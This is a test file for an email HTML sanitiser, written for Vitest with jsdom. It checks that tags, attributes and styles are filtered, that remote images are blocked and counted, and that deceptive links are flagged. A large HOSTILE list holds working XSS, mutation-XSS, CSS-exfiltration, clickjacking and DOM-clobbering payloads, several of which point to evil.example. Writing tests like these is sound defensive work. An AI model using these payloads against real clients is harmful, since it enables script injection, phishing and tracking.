// @vitest-environment jsdom
// jsdom parses as browsers do (parse5), which mutation XSS is about.
import { describe, expect, it } from 'vitest';
import { type Shown, shownMail } from './sanitize';

const none = new Map<string, string>();
const shown = (html: string, pictures = false, embedded = none) => shownMail(html, { pictures, embedded });

const TAGS =
  /^(?:a|abbr|acronym|address|article|aside|b|big|blockquote|br|caption|center|cite|code|col|colgroup|dd|del|details|dfn|dir|div|dl|dt|em|figcaption|figure|font|footer|h[1-6]|header|hr|i|img|ins|kbd|li|main|mark|nav|ol|p|pre|q|rp|rt|ruby|s|samp|section|small|span|strike|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|time|tr|tt|u|ul|var|wbr)$/;
const NOT_LOADED = /url\(|https?:|@import|expression|image-set|behaviou?r/i;

/** What holds of every mail, whatever it tried. */
function isHarmless({ body, sheet }: Shown, pictures = false): void {
  for (const element of [body, ...body.querySelectorAll('*')]) {
    expect(element.localName).toMatch(TAGS);
    expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml');
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(
        /^on|^(?:srcset|srcdoc|action|formaction|ping|poster|data|xlink:href|name|form|is|slot|content|http-equiv|autofocus|tabindex)$/,
      );
      if (name === 'src' || name === 'background') {
        expect(value).toMatch(pictures ? /^(?:data:image\/|blob:|https:)/ : /^(?:data:image\/|blob:)/);
      }
      if (name === 'href') {
        expect(element.localName).toBe('a');
        expect(value).toMatch(/^(?:https?:\/\/|mailto:)/);
        expect(element.getAttribute('target')).toBe('_blank');
        expect(element.getAttribute('rel')).toBe('noopener noreferrer nofollow');
      }
      if (name === 'style') {
        expect(value).not.toMatch(/position:\s*(?:fixed|absolute|sticky)|expression|behaviou?r|\\|\dd?vh/i);
        if (!pictures) expect(value).not.toMatch(NOT_LOADED);
      }
    }
  }
  expect(sheet).not.toMatch(/<|position:\s*(?:fixed|absolute|sticky)|@import|@font-face|expression\(|behaviou?r|\\/i);
  if (!pictures) expect(sheet).not.toMatch(NOT_LOADED);
}

const HOSTILE: [string, string][] = [
  ['a script', '<p>kept</p><script>alert(1)</script>'],
  ['a script in upper case with a slash', '<p>kept</p><SCRIPT/x SRC=//evil.example/a.js></SCRIPT>'],
  ['a handler', '<p>kept<img src=x onerror=alert(1)></p>'],
  ['handlers without blanks', '<p>kept<img/src=x/onerror=alert(1)//></p>'],
  ['a handler of the body', '<body onload=alert(1)><p>kept</p></body>'],
  ['javascript: in a link', '<p>kept<a href="javascript:alert(1)">x</a></p>'],
  [
    'javascript: with control characters',
    '<p>kept<a href="jav&#x09;ascript:alert(1)">x</a><a href="\u0001javascript:alert(1)">y</a></p>',
  ],
  ['javascript: in entities', '<p>kept<a href="&#106;&#97;vascript&colon;alert(1)">x</a></p>'],
  ['data: in a link', '<p>kept<a href="data:text/html,<script>alert(1)</script>">x</a></p>'],
  ['vbscript and blob', '<p>kept<a href="vbscript:x">x</a><a href="blob:https://a.example/1">y</a></p>'],
  ['an svg with a handler', '<p>kept</p><svg onload=alert(1)><circle r=1></svg>'],
  ['an svg script', '<p>kept</p><svg><script href="data:,alert(1)"/></svg>'],
  [
    'an svg animation of href',
    '<p>kept</p><svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
  ],
  ['an svg use', '<p>kept</p><svg><use href="https://evil.example/x.svg#a"/></svg>'],
  [
    'a foreignObject',
    '<p>kept</p><svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  ],
  [
    'mathml',
    '<p>kept</p><math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ],
  [
    'mathml with a link',
    '<p>kept</p><math href="javascript:alert(1)"><mi xlink:href="javascript:alert(1)">x</mi></math>',
  ],
  ['mutation by noscript', '<p>kept</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['mutation by style in svg', '<p>kept</p><svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  [
    'mutation by form and math',
    '<p>kept</p><form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  ['mutation by a comment', '<p>kept</p><!--><img src=x onerror=alert(1)>-->'],
  [
    'mutation by an annotation',
    '<p>kept</p><math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  ],
  [
    'mutation by nesting',
    `<p>kept</p>${'<div>'.repeat(600)}<math><mi><table><mi><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  ],
  ['a template', '<p>kept</p><template><script>alert(1)</script></template>'],
  [
    'a form',
    '<p>kept</p><form action="https://evil.example/"><input name=password type=password autofocus><button formaction=//evil.example>Go</button></form>',
  ],
  [
    'an input outside of a form',
    '<p>kept</p><input form=f onfocus=alert(1) autofocus><textarea>x</textarea><select><option>y</select>',
  ],
  ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.example/"><p>kept</p>'],
  ['a policy of its own', `<meta http-equiv="Content-Security-Policy" content="img-src *"><p>kept</p>`],
  ['a base', '<base href="https://evil.example/"><p>kept<a href="/login">x</a></p>'],
  ['a style sheet from the network', '<link rel=stylesheet href=https://evil.example/a.css><p>kept</p>'],
  ['prefetching', '<link rel=dns-prefetch href=//evil.example><link rel=prerender href=//evil.example><p>kept</p>'],
  ['srcset', '<p>kept<img srcset="https://evil.example/a.png 2x" src=data:,x sizes=100vw></p>'],
  [
    'a picture',
    '<p>kept</p><picture><source srcset=//evil.example/a.webp><img src=https://evil.example/a.png></picture>',
  ],
  [
    'background attributes',
    '<table background=https://evil.example/a.png><tr><td background="//evil.example/b">kept</table>',
  ],
  [
    'a background of the body',
    '<body background="https://evil.example/a.png" bgcolor="red;background:url(//evil.example)"><p>kept</p></body>',
  ],
  [
    'audio and video',
    '<p>kept</p><video poster=//evil.example/p.png src=//evil.example/v.mp4 autoplay><source src=x></video><audio src=//evil.example/a.mp3>',
  ],
  [
    'object, embed and applet',
    '<p>kept</p><object data="https://evil.example/a.swf"><param name=x></object><embed src=//evil.example><applet code=x>',
  ],
  ['frames', '<p>kept</p><iframe src=https://evil.example/></iframe><iframe srcdoc="<p>x"></iframe>'],
  ['a frameset', '<p>kept</p><frameset><frame src=https://evil.example/></frameset>'],
  ['ping', '<p>kept<a href="https://a.example/" ping="https://evil.example/">x</a></p>'],
  ['a target of the whole window', '<p>kept<a href="https://a.example/" target=_top rel=opener>x</a></p>'],
  ['an area', '<p>kept</p><map name=m><area href="https://evil.example/" shape=default></map><img usemap=#m>'],
  [
    'clobbering',
    '<p>kept</p><img name=body id=body><form id=documentElement name=defaultView></form><a id=cookie name=cookie>x</a>',
  ],
  ['a custom element', '<p>kept</p><x-frame onclick=alert(1) is=script>x</x-frame>'],
  ['a dialog and a popover', '<p>kept</p><dialog open>x</dialog><div popover=manual>y</div>'],
  ['an SVG as a data picture', '<p>kept<img src="data:image/svg+xml;base64,PHN2Zz4="></p>'],
  [
    'styles: import',
    '<style>@import "https://evil.example/a.css"; @import url(//evil.example/b.css); p { color: red }</style><p>kept</p>',
  ],
  [
    'styles: a font',
    '<style>@font-face { font-family: x; src: url(https://evil.example/f.woff2) } p { color: red }</style><p>kept</p>',
  ],
  [
    'styles: a URL',
    '<style>p { background: url(https://evil.example/a.png) } a:hover { background-image: url("//evil.example") }</style><p>kept</p>',
  ],
  [
    'styles: an escaped URL',
    '<style>p { background: u\\72l(https://evil.example/a.png) }</style><p style="background:\\75rl(//evil.example)">kept</p>',
  ],
  [
    'styles: an attribute that tells',
    '<style>input[value^="a"] { background: image-set("https://evil.example/a" 1x) }</style><p>kept</p>',
  ],
  [
    'styles: covering',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:99999">kept</div>',
  ],
  [
    'styles: covering, with a comment',
    '<div style="position:/**/fixed;top:0">kept</div><div style="POSITION : Absolute">x</div>',
  ],
  [
    'styles: covering, from a sheet',
    '<style>.a { position: fixed !important; inset: 0 } .b { position: sticky }</style><p class=a>kept</p>',
  ],
  [
    'styles: expression and behavior',
    '<p style="width:expression(alert(1));behavior:url(x.htc);-moz-binding:url(//evil.example/x.xml#a)">kept</p>',
  ],
  ['styles: the end of the element', '<style>p{color:red}</style/><img src=x onerror=alert(1)></style><p>kept</p>'],
  [
    'styles: a string without end',
    '<style>p { color: "red; } a { background: url(//evil.example) }</style><p>kept</p>',
  ],
  [
    'styles: a parenthesis without end',
    '<style>p { color: rgb(; position: fixed } a { color: red }</style><p style="color: rgb(; position: fixed">kept</p>',
  ],
  [
    'styles: variables',
    '<style>:root { --u: url(https://evil.example/) } p { background: var(--u) }</style><p>kept</p>',
  ],
  ['styles: text out of nothing', '<style>a::after { content: "https://bank.example" }</style><p>kept</p>'],
  [
    'styles: text that runs backwards',
    '<p style="unicode-bidi: bidi-override; direction: rtl">kept</p><bdo dir=rtl>tpek</bdo>',
  ],
  [
    'styles: as high as the frame',
    '<div style="height: 100vh; min-height:100DVH">kept</div><style>p { height: calc(100svh + 1px) }</style>',
  ],
  [
    'styles: nested and layered',
    '<style>@layer a { @media all { p { & b { background: url(//evil.example) } } } }</style><p>kept</p>',
  ],
  [
    'conditional comments',
    '<!--[if mso]><v:rect><v:fill src="https://evil.example/a.png"/></v:rect><![endif]--><p>kept</p>',
  ],
  ['null bytes', '<p>kept</p><scr\u0000ipt>alert(1)</scr\u0000ipt><a href="java\u0000script:alert(1)">x</a>'],
  ['an xml processing instruction', '<?xml-stylesheet href="https://evil.example/a.xsl"?><p>kept</p>'],
  ['marquee and plaintext', '<p>kept</p><marquee onstart=alert(1)>x</marquee><plaintext><script>alert(1)</script>'],
];

describe('hostile mail', () => {
  it.each(HOSTILE)('%s', (_, html) => {
    const blocked = shown(html);
    isHarmless(blocked);
    expect(blocked.body.textContent).toContain('kept');
    expect(blocked.body.textContent).not.toContain('alert(1)</');
    isHarmless(shown(html, true), true);
  });
});

it('what is code or another document leaves no text', () => {
  const { body } = shown(
    'kept<script>a</script><svg><text>b</text></svg><object>c</object><select><option>d</select><iframe>e</iframe>',
  );
  expect(body.textContent).toBe('kept');
});

it('only a link has an address', () => {
  const { body } = shown('<p href="https://a.example/">kept</p><img href="https://a.example/">');
  expect(body.querySelector('[href]')).toBeNull();
});

it('a mail of frames alone shows nothing', () => {
  const mail = shown('<frameset onload=alert(1)><frame src=https://evil.example/></frameset>');
  isHarmless(mail);
  expect(mail.body.childNodes).toHaveLength(0);
});

describe('pictures', () => {
  const mail =
    '<img alt=a src="https://a.example/a.png"><img src=//a.example/b><img src=HTTP://a.example/c><td background="https://a.example/d">' +
    '<p style="background-image:url(https://a.example/e)">x</p><img src=cid:Logo%40a.example><img src="data:image/png;base64,AAAA">';
  const own = new Map([['logo@a.example', 'blob:https://console.example/1']]);

  it('from the network are left out and counted', () => {
    const { body, remote } = shown(mail, false, own);
    expect([...body.querySelectorAll('img')].map((image) => image.getAttribute('src'))).toEqual([
      null,
      null,
      null,
      'blob:https://console.example/1',
      'data:image/png;base64,AAAA',
    ]);
    expect(remote).toBe(4);
    expect(body.querySelector('img')?.getAttribute('alt')).toBe('a');
  });

  it('are loaded over TLS once they are asked for', () => {
    const { body, remote } = shown(mail, true, own);
    const sources = [...body.querySelectorAll('img')].map((image) => image.getAttribute('src'));
    expect(sources.slice(0, 3)).toEqual(['https://a.example/a.png', 'https://a.example/b', 'https://a.example/c']);
    expect(body.querySelector('p')?.getAttribute('style')).toContain('url("https://a.example/e")');
    expect(remote).toBe(4);
  });
});

describe('what mail looks like', () => {
  it('keeps tables, fonts, colours and sheets', () => {
    const { body, sheet } = shown(
      '<html><head><style>/* a */ @media (max-width: 600px) { .a { width: 100% !important } } p.x > b { color: #123456; font-family: "Segoe UI", Burlington }</style></head>' +
        '<body bgcolor="#222222" style="margin:0;color:white" dir=rtl><table width=600 cellpadding=4><tr><td align=center style="padding:4px;background:linear-gradient(red,blue)">' +
        '<font color=red size=2>kept</font></td></tr></table></body></html>',
    );
    expect(sheet).toContain('@media (max-width: 600px) { .a { width: 100% !important } }');
    expect(sheet).toContain('p.x > b { color: #123456; font-family: "Segoe UI", Burlington }');
    expect(body.getAttribute('style')).toBe('background-color: #222222; margin: 0; color: white');
    expect(body.getAttribute('dir')).toBe('rtl');
    expect(body.querySelector('td')?.getAttribute('style')).toBe(
      'padding: 4px; background: linear-gradient(red,blue)',
    );
    expect(body.querySelector('table')?.getAttribute('width')).toBe('600');
    expect(body.querySelector('font')?.getAttribute('color')).toBe('red');
  });

  it('says where a link leads that says otherwise', () => {
    const { body, links } = shown(
      '<p><a href="https://evil.example/login">https://bank.example</a> and <a href="https://a.example/x">a</a></p>',
    );
    expect(body.textContent).toContain('https://bank.exampleevil.example');
    expect(links.map(({ target, lies }) => [target, lies])).toEqual([
      ['evil.example', true],
      ['a.example', false],
    ]);
  });

  it('a picture that shows a host counts as text', () => {
    const { links } = shown('<a href="https://evil.example/"><img alt="www.bank.example"></a>');
    expect(links[0]?.lies).toBe(true);
  });
});
